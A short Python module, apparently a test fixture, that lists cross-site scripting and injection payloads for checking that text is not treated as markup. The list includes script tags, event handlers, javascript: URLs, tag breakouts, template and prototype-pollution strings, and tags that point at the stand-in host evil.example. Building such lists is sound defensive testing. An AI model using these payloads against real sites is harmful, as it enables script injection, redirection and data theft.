"""Text that would be an element, a script or a template where a page took it for one."""

_SCRIPTS = ["alert(1)", "window.hurt=1", "top.hurt=1", "eval('hurt=1')"]
PAYLOADS = [
    *(f"<script>{script}</script>" for script in _SCRIPTS),
    *(f"<img src=x onerror={script}>" for script in _SCRIPTS),
    *(f"<svg onload={script}>" for script in _SCRIPTS),
    *(f"<iframe srcdoc='<script>{script}</script>'>" for script in _SCRIPTS),
    *(f"javascript:{script}" for script in _SCRIPTS),
    *(f"'\"><b onmouseover={script}>x</b>" for script in _SCRIPTS),
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=q>",
    "<object data=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hurt=1>",
    "</textarea></title></script><script>hurt=1</script>",
    "{{constructor.constructor('hurt=1')()}}",
    "${hurt=1}",
    "{count} {name} {reference}",
    "$& $1 $`",
    "&lt;script&gt;hurt=1&lt;/script&gt;",
    "\u202e<script>hurt=1</script>",
    "__proto__",
    "constructor",
]
